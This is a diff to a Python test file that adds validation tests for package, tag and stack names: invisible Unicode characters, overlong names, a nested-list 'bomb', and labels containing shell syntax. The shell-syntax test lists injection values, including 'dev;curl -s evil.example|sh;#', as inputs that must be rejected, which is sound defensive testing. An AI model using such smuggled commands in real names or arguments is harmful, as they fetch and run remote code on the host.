@@ -7,12 +7,14 @@ import pytest
 from cachedex.values import (
     DEPTYPE_BITS,
     LINK_RUN,
+    check_label,
     check_name,
     decode_variants,
     deptypes_from_mask,
     deptypes_to_mask,
     human_size,
     is_dag_hash,
+    short_repr,
 )
 
 
@@ -27,13 +29,40 @@ from cachedex.values import (
         ("a\\b", "must not contain '/'"),
         ("..", "must not contain '..'"),
         (".hidden", "must not start with '.'"),
-        ("tab\there", "control characters"),
+        ("tab\there", "control"),
         (12, "expected a string"),
+        pytest.param("gnp\u202eexe", "invisible formatting", id="COS-6-rtl-override"),
+        pytest.param("zero\u200bwidth", "invisible formatting", id="COS-6-zero-width"),
+        pytest.param("a" * 256, "longer than 255 bytes", id="CRASH-11-long-name"),
+        pytest.param("é" * 128, "longer than 255 bytes", id="CRASH-11-long-in-utf8"),
+        ("a" * 255, None),
     ],
 )
 def test_check_name(name: object, problem: str | None) -> None:
     found = check_name(name)
     assert (found is None) if problem is None else (problem in (found or ""))
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["dev;curl -s evil.example|sh;#", "e4s$(id>~.pwned)", "a b", "`x`", "x'y", "-rf", "tag\n"],
+)
+def test_sec3_tag_and_stack_names_hold_no_shell_syntax(name: str) -> None:
+    assert check_label(name) is not None
+
+
+@pytest.mark.parametrize("name", ["develop", "develop-2025-07-13", "v0.22.1", "ml-linux-x86_64-cuda", "v1.0+rc1"])
+def test_ordinary_labels_are_accepted(name: str) -> None:
+    assert check_label(name) is None
+
+
+def test_hang2_messages_quote_huge_values_briefly() -> None:
+    bomb: list[object] = ["lol"] * 9
+    for _ in range(8):
+        bomb = [bomb] * 9  # 387 million strings if expanded
+    assert len(short_repr(bomb)) < 100
+    assert len(check_name(bomb) or "") < 150
+    assert short_repr("x" * 10_000).startswith("'xxx") and len(short_repr("x" * 10_000)) < 100
 
 
 @pytest.mark.parametrize(
